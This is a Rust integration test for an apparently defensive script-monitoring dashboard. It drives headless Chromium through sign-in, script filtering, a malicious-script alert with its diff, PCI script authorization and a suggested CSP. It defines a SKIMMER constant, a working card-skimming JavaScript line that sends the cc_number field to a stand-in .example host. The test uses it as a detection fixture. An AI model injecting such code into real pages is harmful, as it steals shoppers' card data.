//! The dashboard in real headless Chromium, driven over the DevTools protocol: sign in with the
//! token, open the scripts table, filter it, open a script's diff, follow an alert. The page's
//! own CSP (no script at all) must not get in the way of any of it.
//!
//! With `RAMPART_SCREENSHOTS=DIR` the test also saves PNGs of the main pages there (the ones
//! under docs/screenshots/ were made this way).

mod common;

use std::time::{Duration, Instant};

use axum::http::header;
use common::cdp::Page;
use common::*;

const LIB: &str = "(function (w) { var s = { n: 0 }; function open(p) { s.n += 1; p.classList.add('open'); } w.widget = { open: open }; })(window);\n";
/// Written for this test (never real malware): the BA-style pattern on a reserved domain.
const SKIMMER: &str = "document.addEventListener('submit', function () { var c = document.querySelector('input[name=cc_number]').value; navigator.sendBeacon('https://widget-cdn-analytics.example.net/c', c); });\n";

async fn upstream(body: std::sync::Arc<std::sync::Mutex<String>>) -> u16 {
    let app = axum::Router::new().route(
        "/widget.js",
        axum::routing::get(move || {
            let b = body.lock().unwrap().clone();
            async move { ([(header::CONTENT_TYPE, "text/javascript")], b) }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    port
}

async fn report(base: &str, directive: &str, blocked: &str, page: &str) {
    let body = serde_json::json!({"csp-report": {
        "document-uri": page, "effective-directive": directive, "blocked-uri": blocked,
    }});
    let r = reqwest::Client::new()
        .post(format!("{base}/report/dash-test-key"))
        .header("content-type", "application/csp-report")
        .body(body.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 204);
}

async fn screenshot(page: &mut Page, name: &str) {
    if let Some(dir) = std::env::var_os("RAMPART_SCREENSHOTS") {
        let png = page.screenshot().await;
        assert!(png.starts_with(b"\x89PNG"));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(std::path::Path::new(&dir).join(format!("{name}.png")), png).unwrap();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_in_filter_the_scripts_open_a_diff_and_follow_an_alert() {
    let body = std::sync::Arc::new(std::sync::Mutex::new(LIB.to_string()));
    let up = upstream(body.clone()).await;
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let config = format!(
        "listen = \"127.0.0.1:{port}\"\npublic_url = \"http://127.0.0.1:{port}\"\n\
         database = \"sqlite://{db}\"\napi_token = \"{TOKEN}\"\nflush_interval = \"100ms\"\n\
         [fetcher]\nallow_private_addresses = true\ninterval = \"300ms\"\n\
         [[sites]]\nid = \"shop\"\nkey = \"dash-test-key\"\norigins = [\"https://shop.example\"]\n\
         min_reports = 1\nlearning_period = \"0s\"\n",
        db = dir.path().join("rampart.db").display()
    );
    let server = spawn(dir.path(), port, &config);
    let widget = format!("http://127.0.0.1:{up}/widget.js");
    let checkout = "https://shop.example/checkout";
    report(&server.base, "script-src-elem", &widget, checkout).await;
    for i in 0..3 {
        report(
            &server.base,
            "script-src-elem",
            &format!("https://cdn{i}.vendor.example/lib.js"),
            checkout,
        )
        .await;
        report(
            &server.base,
            "connect-src",
            &format!("https://api{i}.collect.example/e"),
            checkout,
        )
        .await;
    }
    // First version fetched, then the widget gets a skimmer appended: versions, a diff, alerts.
    let deadline = Instant::now() + Duration::from_secs(20);
    let versions = format!(
        "/api/v1/sites/shop/scripts/versions?url={}",
        widget.replace(':', "%3A").replace('/', "%2F")
    );
    while server.api(&versions).await["versions"]
        .as_array()
        .unwrap()
        .is_empty()
    {
        assert!(Instant::now() < deadline, "first version never fetched");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    *body.lock().unwrap() = format!("{LIB}{SKIMMER}");
    while server.api("/api/v1/alerts?kind=malicious_script").await["alerts"]
        .as_array()
        .unwrap()
        .is_empty()
    {
        assert!(Instant::now() < deadline, "the change was never scored");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    let browser = Browser::open("about:blank", &[]);
    let mut page = Page::open(browser.profile(), &format!("{}/", server.base)).await;
    // Signed out: the login form.
    page.wait_for("document.querySelector('#token') !== null")
        .await;
    screenshot(&mut page, "login").await;
    page.eval(&format!(
        "document.querySelector('#token').value = '{TOKEN}'; document.querySelector('form.login').submit(); true"
    ))
    .await;
    page.wait_for("document.querySelector('table#sites') !== null")
        .await;
    assert_eq!(
        page.eval("document.cookie").await,
        "",
        "the session cookie is HttpOnly: invisible to page script"
    );
    screenshot(&mut page, "overview").await;

    // The scripts table, then filtered to one vendor domain with the form.
    page.eval("document.querySelector('a[href=\"/sites/shop\"]').click(); true")
        .await;
    page.wait_for("location.pathname === '/sites/shop' && document.readyState === 'complete'")
        .await;
    let rows = page
        .eval("document.querySelectorAll('table.resources')[0].tBodies[0].rows.length")
        .await;
    assert_eq!(rows, 4, "four scripts");
    screenshot(&mut page, "scripts").await;
    page.eval("document.querySelector('select[name=domain]').value = 'vendor.example'; document.querySelector('form.filters').submit(); true")
        .await;
    page.wait_for(
        "location.search.includes('domain=vendor.example') && document.readyState === 'complete'",
    )
    .await;
    let rows = page
        .eval("document.querySelectorAll('table.resources')[0].tBodies[0].rows.length")
        .await;
    assert_eq!(rows, 3, "three scripts on vendor.example");

    // An alert leads to the script page with the diff and the score.
    page.goto(&format!("{}/alerts?kind=malicious_script", server.base))
        .await;
    screenshot(&mut page, "alerts").await;
    page.eval("document.querySelector('table.alerts td.url a').click(); true")
        .await;
    page.wait_for(
        "location.pathname === '/sites/shop/script' && document.readyState === 'complete'",
    )
    .await;
    let added = page
        .eval("document.querySelector('#diff pre.added').textContent")
        .await;
    assert!(added.as_str().unwrap().contains("sendBeacon"), "{added}");
    let score = page
        .eval("document.querySelector('dd .badge.bad') !== null")
        .await;
    assert_eq!(
        score,
        serde_json::json!(true),
        "the malicious score is shown"
    );
    screenshot(&mut page, "script").await;
    let warned = page
        .eval("document.querySelector('p.error') !== null && document.querySelector('p.error').textContent.includes('scores as malicious')")
        .await;
    assert_eq!(
        warned,
        serde_json::json!(true),
        "a malicious version is flagged next to the authorize form"
    );

    // Authorized from the page (PCI DSS 6.4.3): the form posts with its CSRF token and the
    // page comes back naming who authorized which structure.
    page.eval("document.querySelector('form.authorize input[name=authorized_by]').value = 'Alice (payments)'; document.querySelector('form.authorize button[value=authorize]').click(); true")
        .await;
    page.wait_for("document.querySelector('#authorization .badge.good') !== null")
        .await;
    let text = page
        .eval("document.querySelector('#authorization').textContent")
        .await;
    let text = text.as_str().unwrap();
    assert!(text.contains("authorized by Alice (payments)"), "{text}");
    assert!(text.contains("structure"), "{text}");

    // The rest at once: tick every script in the site's table (checkboxes tied to the form by
    // its id) and submit; the page comes back filtered to the authorized ones.
    page.goto(&format!("{}/sites/shop", server.base)).await;
    page.eval("document.querySelectorAll('input[form=bulk]').forEach(c => c.checked = true); document.querySelector('#bulk input[name=authorized_by]').value = 'Bob'; document.querySelector('#bulk button').click(); true")
        .await;
    page.wait_for(
        "location.search.includes('authorization=authorized') && document.readyState === 'complete'",
    )
    .await;
    let rows = page
        .eval("document.querySelectorAll('table.resources')[0].tBodies[0].rows.length")
        .await;
    assert_eq!(rows, 4, "every script authorized");

    // The policy they allow, suggested on its page.
    page.eval("document.querySelector('a[href*=\"/policy\"]').click(); true")
        .await;
    page.wait_for(
        "location.pathname === '/sites/shop/policy' && document.readyState === 'complete'",
    )
    .await;
    let policy = page
        .eval("document.querySelector('#policy').textContent")
        .await;
    let policy = policy.as_str().unwrap();
    assert!(
        policy.starts_with("Content-Security-Policy: script-src")
            && policy.contains("cdn0.vendor.example"),
        "{policy}"
    );
    screenshot(&mut page, "policy").await;
    drop(browser);
}
